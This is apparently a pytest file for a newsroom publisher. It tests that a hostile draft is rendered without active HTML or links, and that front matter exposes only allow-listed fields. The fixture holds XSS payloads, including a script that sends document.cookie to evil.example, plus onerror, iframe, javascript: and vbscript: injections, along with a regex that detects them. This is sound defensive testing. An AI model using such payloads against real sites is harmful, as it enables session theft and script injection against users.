"""What is published carries no active content and no internal metadata: a hostile draft's HTML,
event handlers and javascript:/data: links are gone from the .md and the .html; the front matter
holds title, date and sources unless more is opted in (NEWSROOM_PUBLISH_FRONT_MATTER)."""
from __future__ import annotations

import re

import pytest

from agents.models import Citation, Draft, ResearchNotes
from agents.publisher import render_post
from config import ConfigError, load_settings
from tools.publish import StaticSiteDestination

HOSTILE = Draft(version=3, title='GQA <script>steal()</script>', prompt="writer.draft@2", model="newsroom-writer",
                body=('Grouped-query attention <script>fetch("https://evil.example/?c="+document.cookie)</script>'
                      ' shares heads.<img src=x onerror="alert(1)"> <iframe src="https://evil.example"></iframe>\n\n'
                      '[Read more](javascript:alert(document.domain)) ![pixel](data:image/svg+xml;base64,PHN2Zz4=)'
                      ' <javascript:alert(2)> <a href="javascript:alert(3)">x</a> [ok](https://arxiv.org/abs/2305.13245)'
                      '\n\n[ref]: vbscript:msgbox(1)\n'))
NOTES = ResearchNotes(notes="[1] ...", grounded=True,
                      citations=[Citation(n=1, chunk_id="c1", source_title='GQA paper <img src=x onerror=alert(4)>')])
ACTIVE = re.compile(r"<script|onerror|<iframe|javascript:|data:image|vbscript:|<img", re.IGNORECASE)


def test_a_hostile_draft_is_published_inert(tmp_path):
    item = render_post("thread-secret-id", HOSTILE, NOTES, requester="@eve (telegram 4242)")
    assert not ACTIVE.search(item.markdown), item.markdown
    assert not ACTIVE.search(item.html.replace("&lt;", "<")), item.html  # not even escaped in the .html
    assert "[ok](https://arxiv.org/abs/2305.13245)" in item.markdown and "Read more" in item.markdown
    location = StaticSiteDestination(tmp_path).publish(item)
    for path in (tmp_path / "posts").glob("*"):
        if path.suffix in (".md", ".html"):
            assert not ACTIVE.search(path.read_text().replace("&lt;", "<")), path
    assert location.endswith(".html")


def test_front_matter_is_an_allow_list():
    md = render_post("thread-secret-id", HOSTILE, NOTES, requester="@eve (telegram 4242)").markdown
    front = md.split("---")[1]
    assert [line.split(":")[0] for line in front.strip().splitlines()] == ["title", "date", "sources"]
    for internal in ("thread-secret-id", "telegram 4242", "@eve", "newsroom-writer", "publish_key", "scores"):
        assert internal not in md
    opted = render_post("thread-secret-id", HOSTILE, NOTES, requester="@eve", scores={"calibration": 4},
                        front_matter_extra=["thread_id", "scores"]).markdown
    assert 'thread_id: "thread-secret-id"' in opted and 'scores: {"calibration": 4}' in opted
    assert "requester" not in opted


def test_unknown_front_matter_fields_are_refused():
    with pytest.raises(ConfigError, match="NEWSROOM_PUBLISH_FRONT_MATTER"):
        load_settings(publish_front_matter="thread_id,secrets")
